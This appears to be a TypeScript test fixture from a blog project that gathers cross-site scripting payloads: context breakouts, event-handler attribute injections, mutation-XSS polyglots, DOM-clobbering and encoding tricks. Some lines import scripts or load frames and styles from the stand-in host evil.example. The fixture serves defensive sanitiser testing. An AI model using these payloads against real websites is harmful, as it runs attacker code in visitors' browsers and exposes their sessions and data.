import { hostileMarkdown } from '../../mf-blog/src/testing/hostile-markdown.ts';

const EVENTS = [
  ...['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onpointerenter', 'onanimationstart'],
  ...['ontoggle', 'onscroll', 'onbeforeinput'],
];

/** Prefixes that end the context of a text: an attribute, a script, JSON, a style, a comment, a title, a template. */
const WAYS_OUT = [
  ...['">', "'>", '`>', '"/>', '--!>', '-->', ']]>', '\\"}]}</script>', '\u2028</script>', '<!--<script>', '${'],
  ...'</title> </textarea> </style> </script> </noscript> </template> </select> </option>'.split(' '),
  '{{constructor.constructor("',
];

const ESCAPED_OUT = WAYS_OUT.flatMap((way) => [
  `${way}<script>alert(1)</script>`,
  `${way}<img src=https://evil.example/x onerror=alert(1)>`,
  `${way}<svg onload=alert(1)>`,
]);

const ATTRIBUTES = EVENTS.flatMap((event) => [
  `" autofocus tabindex=1 ${event}=alert(1) x="`,
  `' autofocus tabindex=1 ${event}=alert(1) x='`,
]);

const POLYGLOTS = [
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
  '\'"--></style></script><svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><style></noscript><img src=x onerror=alert(1)>',
  '<a id=page-state>x</a>',
  '<form id=root name=getElementById>x</form>',
  '<script type="application/json" id="page-state">{"platform":null}</script>',
  '<meta http-equiv="Content-Security-Policy" content="default-src *">',
  '<script nonce="">alert(1)</script>',
  '<script type=module>import("https://evil.example/x.js")</script>',
  '<link rel=modulepreload href=https://evil.example/x.js>',
  '<script type=importmap>{"imports":{"react":"https://evil.example/x.js"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example/"]}]}</script>',
  '<iframe src=https://evil.example/></iframe>',
  '<style>*{background:url(https://evil.example/x)}</style>',
  '__proto__',
  '{"__html":"<img src=x onerror=alert(1)>"}',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\u{E000}<img src=x onerror=alert(1)>\u{E001}',
];

/** Texts that try to run code in a reader's browser. */
export const scriptPayloads: readonly string[] = [
  ...new Set([...hostileMarkdown, ...ESCAPED_OUT, ...ATTRIBUTES, ...POLYGLOTS]),
];
